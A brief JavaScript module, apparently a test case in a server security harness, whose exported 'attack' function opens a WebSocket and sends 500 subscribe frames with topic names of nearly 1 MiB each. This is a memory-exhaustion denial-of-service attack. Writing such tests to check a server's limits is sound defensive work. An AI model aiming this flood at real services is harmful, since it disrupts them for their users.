/** Subscribes to topics whose names are 1 MiB long, less the rest of the frame. */
const TOPICS = 500;
const name = 'x'.repeat((1 << 20) - 200);

export async function attack(stranger) {
  const socket = await stranger.webSocket();
  await stranger.send(socket, frames());
}

function* frames() {
  for (let i = 0; i < TOPICS; i++) yield `{"event":"subscribe","subscription":"open.${i}.${name}"}`;
}
